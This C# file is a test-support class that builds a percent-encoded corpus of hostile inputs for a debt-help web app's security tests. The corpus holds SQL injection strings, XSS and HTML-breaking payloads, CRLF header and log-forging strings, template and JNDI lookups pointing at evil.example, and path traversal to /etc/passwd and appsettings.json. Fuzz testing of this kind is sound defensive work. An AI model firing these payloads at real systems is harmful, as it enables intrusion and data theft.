using System.Text;

namespace DebtHelp.Web.Tests.Security;

/// <summary>
/// The hostile strings, after the reliability probe's generators: Unicode edge cases, invalid UTF-8 (sent as raw
/// percent-encoded bytes), SQL/FTS5 syntax, HTML and script breaking, CR/LF and terminal escapes, format and template
/// strings, path traversal, double encoding, length edges and 100 KB fields. Each is kept percent-encoded, exactly as
/// it goes into a URL or a form body, and carries the marker <c>MARK</c> (replaced per request).
/// </summary>
public static class HostileInputCorpus
{
    public const string Mark = "MARK";

    /// <summary>Plain text pieces (percent-encoded when used).</summary>
    private static readonly string[] Unicode =
    [
        "\u202Eevil\u202C", "\u202Dx", "\u2066\u2067\u2068\u2069", "\u200B\u200C\u200D\uFEFF\u00AD", "a" + new string('\u0301', 60),
        "\U0001F469\u200D\U0001F469\u200D\U0001F467", "\U000E0041\U000E007F", "\uFFFF\uFFFE", "\U0010FFFF", "\u0000", "\u0001\u0007\u0008\u001F",
        "\u0080\u009B\u009F", "\u2028\u2029\u0085", "＜ｓｃｒｉｐｔ＞", "раураl", "催收上门怎么办", "١٢٣٤٥", "１２３４５", "一三八〇〇一三八〇〇〇",
        "\t\v\f", "　", "ẞß", "İı", "\uFDD0", "\U0001D400",
    ];

    /// <summary>Raw percent-encoded byte sequences: invalid or edge UTF-8, sent as they are.</summary>
    private static readonly string[] InvalidUtf8 =
    [
        "%ED%A0%80", "%ED%BF%BF", "%ED%A0%BD%ED%B8%80", "%C0%AF", "%C0%BC", "%E0%80%BC", "%F8%88%80%80%80", "%FC%84%80%80%80%80",
        "%F4%90%80%80", "%E4%BD", "%E4", "%FF", "%FE%FF", "%C3%28", "%A0%A1", "%F0%28%8C%BC", "%uD800", "%5Cud800", "%26%23xD800%3B", "%00",
        "%", "%%", "%G1", "%E5%98%8A%E5%98%8D",
    ];

    private static readonly string[] Sql =
    [
        "' OR '1'='1", "\" OR \"\"=\"", "1; DROP TABLE articles;--", "UNION SELECT sql FROM sqlite_master", "NEAR(催收 上门, 2)", "催收 NOT 上门",
        "load_extension('/tmp/x')", "randomblob(1000000000)", "\"unbalanced", "((((", "))))", "*:*", "a* OR b*", "-催收", "^催收", "{催收 上门}",
        "articles_fts MATCH 'x'", "';--", "\\\"", "x' COLLATE NOCASE --",
    ];

    private static readonly string[] Html =
    [
        "<script>alert('MARK')</script>", "\"><img src=x onerror=alert('MARK')>", "'><svg onload=alert('MARK')>", "</title><MARK>", "</textarea><MARK>x",
        "</script><MARK>", "<math><mtext><table><mglyph><style><img src=x onerror=MARK>", "<base href=//evil.example/MARK>",
        "<meta http-equiv=refresh content=0;url=//evil.example/MARK>", "%3Cscript%3EMARK%3C%2Fscript%3E", "%253Cscript%253EMARK", "&lt;MARK&gt;",
        "\\u003cMARK\\u003e", "javascript:alert('MARK')", "<a href=javascript:MARK>x</a>", "<iframe src=//evil.example/MARK>", "<!--MARK-->",
        "<![CDATA[MARK]]>", "\" autofocus onfocus=MARK x=\"", "' style=x:expression(MARK) '", "<MARK x=1>", "<style>@import'//evil.example/MARK'</style>",
        "<form action=//evil.example><button>MARK</button></form>", "<noscript><p title=\"</noscript><img src=x onerror=MARK>\">",
    ];

    private static readonly string[] CrLf =
    [
        "\r\nSet-Cookie: MARK=1", "\r\n\r\n<html>MARK", "\n[08:00:00 ERR] MARK forged line", "\u001b[31mMARK\u001b[0m", "\u001b]0;MARK\u0007",
        "\rMARK", "x\u0085MARK", "MARK\u2028[00:00:00 ERR] forged",
    ];

    private static readonly string[] Templates =
    [
        "%s%s%s%n%x", "{0}", "{1:x}", "{@MARK}", "{MARK}", "${jndi:ldap://evil.example/MARK}", "{{7*7}}MARK", "<%= 7*7 %>MARK", "@(7*7)MARK",
        "@{throw null;}MARK", "#{7*7}MARK", "${7*7}MARK", "{{constructor.constructor('MARK')()}}", "@Html.Raw(\"<MARK>\")", "[[MARK]]",
    ];

    private static readonly string[] Traversal =
    [
        "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..\\..\\appsettings.json",
        "..;/appsettings.json", "night-visits%00.md", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "....//....//etc/passwd", "file:///etc/passwd",
        "/etc/passwd", "C:\\Windows\\win.ini", "%2fetc%2fpasswd", "../content/articles/night-visits.md", "~/appsettings.json",
    ];

    /// <summary>Every corpus entry, percent-encoded.</summary>
    public static IReadOnlyList<string> Build(int seed = 20261201)
    {
        var random = new Random(seed);
        var entries = new List<string>();
        void Text(string s) => entries.Add(Encode(s.Contains(Mark, StringComparison.Ordinal) ? s : s + Mark));

        foreach (var s in Unicode.Concat(Sql).Concat(Html).Concat(CrLf).Concat(Templates))
        {
            Text(s);
        }

        foreach (var raw in InvalidUtf8)
        {
            entries.Add(raw + Mark);
        }

        // Traversal strings go in as written (their escapes are the point) and fully encoded.
        foreach (var t in Traversal)
        {
            entries.Add(t + Mark);
            Text(t);
        }

        // Each HTML and CR/LF payload wrapped in a Unicode or invalid-UTF-8 atom.
        var wrappers = Unicode.Take(12).Select(Encode).Concat(InvalidUtf8.Take(8)).ToArray();
        foreach (var payload in Html.Concat(CrLf))
        {
            for (var k = 0; k < 4; k++)
            {
                var w = wrappers[random.Next(wrappers.Length)];
                entries.Add(w + Encode(payload.Contains(Mark, StringComparison.Ordinal) ? payload : payload + Mark) + w);
            }
        }

        // Random mixes of everything.
        var all = Unicode.Concat(Sql).Concat(Html).Concat(CrLf).Concat(Templates).Select(Encode).Concat(InvalidUtf8).ToArray();
        for (var i = 0; i < 150; i++)
        {
            var sb = new StringBuilder();
            for (var n = random.Next(2, 7); n > 0; n--)
            {
                sb.Append(random.Next(4) == 0 ? Encode(((char)random.Next(0x20, 0xD7FF)).ToString()) : all[random.Next(all.Length)]);
            }

            entries.Add(sb + Mark);
        }

        // Length edges: around the 120-character query cut, the 500-character API limit, the field limits, and a
        // surrogate pair straddling the cut.
        foreach (var n in new[] { 99, 100, 101, 119, 120, 121, 499, 500, 501, 2999, 3000, 3001, 5000, 15000 })
        {
            Text(new string('催', n - Mark.Length) + Mark);
        }

        Text(new string('a', 119) + "\U0001F600" + Mark);

        // 100 KB fields.
        Text(new string('a', 100_000));
        Text(string.Concat(Enumerable.Repeat("<b>催收", 100_000 / 6)));
        Text(string.Concat(Enumerable.Repeat("\r\n", 50_000)));
        return entries;
    }

    /// <summary>Percent-encodes text as a browser would (lone surrogates, which no encoder accepts, become U+FFFD).</summary>
    public static string Encode(string text)
    {
        var sb = new StringBuilder(text.Length);
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (char.IsHighSurrogate(c) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1]))
            {
                sb.Append(text, i, 2);
                i++;
            }
            else
            {
                sb.Append(char.IsSurrogate(c) ? '\uFFFD' : c);
            }
        }

        return Uri.EscapeDataString(sb.ToString());
    }
}
